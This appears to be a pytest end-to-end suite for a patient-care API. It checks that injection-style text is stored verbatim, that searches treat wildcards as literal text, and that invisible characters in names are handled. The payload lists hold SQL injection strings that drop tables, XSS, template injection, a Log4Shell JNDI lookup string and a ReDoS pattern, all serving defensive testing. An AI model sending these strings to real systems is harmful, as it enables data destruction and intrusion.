"""Texts that mean something elsewhere are data here: kept to the letter, run nowhere."""

import pytest

from tests.e2e.targets import fingerprint
from tests.standstill import evenly_s

_TEXTS = (
    "'; DROP TABLE t_patient_info; --", "' OR '1'='1", "1; SELECT SLEEP(5)", "%' AND 1=CAST(zeroblob(1e9) AS TEXT) --",
    '"><script>alert(1)</script>', "javascript:alert(1)", "{{7*7}}", "${jndi:ldap://evil}", "%n%s%x", "=1+1",
    '{"$gt": ""}', "\\xbf\\x27", "line one\nline two", "👨‍👩‍👧‍👦 护理", "\u202eright to left", "a" * 2_000,
)  # fmt: skip


@pytest.fixture(scope="module")
def patient_id(people):
    family = people.one_of("patient", 0)
    return family.post("/api/patient/create", {
        "name": "李雷", "birth_date": "1950-01-02", "gender": "male", "relation": "parent", "health_consent": True,
    })["patient_id"]


@pytest.mark.parametrize("text", _TEXTS, ids=range(len(_TEXTS)))
def test_a_text_is_kept_to_the_letter(people, world, patient_id, text):
    family, before = people.one_of("patient", 0), fingerprint(world)
    family.post("/api/patient/update", {"patient_id": patient_id, "condition": text})
    assert family.get("/api/patient/detail", patient_id=patient_id)["condition"] == text
    after = fingerprint(world)
    assert {name for name in before if before[name] != after[name]} <= {"t_patient_info", "consent", "audit_log"}


@pytest.mark.parametrize("text", ["%", "_", "\\", "' OR 1=1 --", "x'); DROP TABLE t_user; --", "(a+)+$" * 5, "%%%%"])
def test_a_search_takes_no_wildcards_and_no_code(people, world, text):
    family, before, begun = people.one_of("patient", 0), fingerprint(world), evenly_s()
    assert family.get("/api/caregiver/query", keyword=text)["items"] == []
    assert evenly_s() - begun < 2.0
    after = fingerprint(world)
    assert {name for name in before if before[name] != after[name]} <= {"behaviour_event"}


def test_names_are_taken_apart_from_invisible_characters(people):
    family = people.one_of("patient", 0)
    body = {"birth_date": "1950-01-02", "gender": "male", "relation": "parent", "health_consent": True}
    for name in ("李\u202e雷", "李\u200b雷", "李\n雷", "\u3000", "李\x07雷"):
        reply = family.ask("POST", "/api/patient/create", body=body | {"name": name})
        if reply.status == 201:
            shown = family.get("/api/patient/detail", patient_id=reply.data["patient_id"])["name"]
            assert shown == "李雷", ascii(name)
        else:
            assert (reply.status, reply.fields) == (422, {"name"})
